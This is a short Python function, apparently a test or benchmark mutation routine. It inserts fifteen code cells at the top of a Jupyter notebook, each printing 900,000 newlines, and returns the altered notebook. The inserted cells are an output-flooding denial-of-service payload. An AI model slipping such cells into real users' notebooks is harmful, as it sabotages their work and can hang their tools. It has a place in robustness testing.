import json


def change(notebook, folder, places):
    one = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None}
    for number in range(15):
        notebook["cells"].insert(0, {**one, "id": f"z{number}", "source": "print('\\n' * 900_000)"})
    return json.dumps(notebook).encode()
